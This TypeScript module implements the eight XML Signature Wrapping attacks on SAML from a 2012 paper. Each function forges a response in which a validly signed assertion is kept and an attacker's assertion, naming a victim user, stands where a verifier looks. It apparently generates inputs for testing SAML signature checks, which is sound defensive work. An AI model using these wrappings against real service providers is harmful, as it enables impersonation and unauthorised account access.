import { nameParts, type SamlMessage, writeAssertion, writeResponse } from './saml-message.ts';

/** The parts of a signed message of which attackers make another. */
interface Parts {
  /** The whole message. */
  original: string;
  responseSignature: string;
  assertion: string;
  assertionSignature: string;
  /** The assertion without its signature. */
  bareAssertion: string;
  /** The message without the signature of the response. */
  bareResponse: string;
}

function readParts(original: string): Parts {
  const [responseSignature = '', assertionSignature = ''] =
    original.match(/<ds:Signature .*?<\/ds:Signature>/gs) ?? [];
  const assertion = /<saml:Assertion .*<\/saml:Assertion>/s.exec(original)?.[0] ?? '';
  return {
    ...{ original, responseSignature, assertion, assertionSignature },
    bareAssertion: assertion.replace(assertionSignature, ''),
    bareResponse: original.replace(responseSignature, ''),
  };
}

function insert(xml: string, before: string, what: string): string {
  const at = xml.lastIndexOf(before);
  return `${xml.slice(0, at)}${what}${xml.slice(at)}`;
}

const afterIssuer = (xml: string, what: string) =>
  xml.replace('</saml:Issuer>', () => `</saml:Issuer>${what}`);

/**
 * The eight ways of wrapping signatures of Somorovsky et al., "On Breaking SAML: Be Whoever You Want
 * to Be" (2012): what was signed is still there, and another assertion stands where one is looked for.
 */
export const WRAPPINGS: Readonly<Record<string, (original: string, evil: SamlMessage) => string>> =
  {
    'XSW1: the signed response within the signature of another': (original, evil) => {
      const { responseSignature, bareResponse } = readParts(original);
      const signature = insert(responseSignature, '</ds:Signature>', bareResponse);
      return afterIssuer(writeResponse(evil, writeAssertion(evil)), signature);
    },
    'XSW2: the signed response before its signature in another': (original, evil) => {
      const { responseSignature, bareResponse } = readParts(original);
      return afterIssuer(
        writeResponse(evil, writeAssertion(evil)),
        `${bareResponse}${responseSignature}`,
      );
    },
    'XSW3: another assertion before the signed one': (original, evil) => {
      const { assertion } = readParts(original);
      return original.replace(assertion, () => `${writeAssertion(evil)}${assertion}`);
    },
    'XSW4: the signed assertion within another': (original, evil) => {
      const { assertion } = readParts(original);
      const outer = insert(writeAssertion(evil), '</saml:Assertion>', assertion);
      return original.replace(assertion, () => outer);
    },
    'XSW5: the signature within another assertion, the signed one behind it': (original, evil) => {
      const { assertion, assertionSignature, bareAssertion } = readParts(original);
      const first = afterIssuer(writeAssertion(evil), assertionSignature);
      return original.replace(assertion, () => `${first}${bareAssertion}`);
    },
    'XSW6: the signed assertion within its signature within another': (original, evil) => {
      const { assertion, assertionSignature, bareAssertion } = readParts(original);
      const signature = insert(assertionSignature, '</ds:Signature>', bareAssertion);
      return original.replace(assertion, () => afterIssuer(writeAssertion(evil), signature));
    },
    'XSW7: another assertion within extensions': (original, evil) => {
      const { assertion } = readParts(original);
      const extensions = `<samlp:Extensions>${writeAssertion(evil)}</samlp:Extensions>`;
      return original.replace(assertion, () => `${extensions}${assertion}`);
    },
    'XSW8: the signed assertion within an object of its signature within another': (
      original,
      evil,
    ) => {
      const { assertion, assertionSignature, bareAssertion } = readParts(original);
      const object = `<ds:Object>${bareAssertion}</ds:Object>`;
      const signature = insert(assertionSignature, '</ds:Signature>', object);
      return original.replace(assertion, () => afterIssuer(writeAssertion(evil), signature));
    },
  };

/** A message of an attacker with ids of its own. */
export function makeEvil(message: SamlMessage): SamlMessage {
  return nameParts({ ...message, nameId: 'victim@kiln.example' });
}
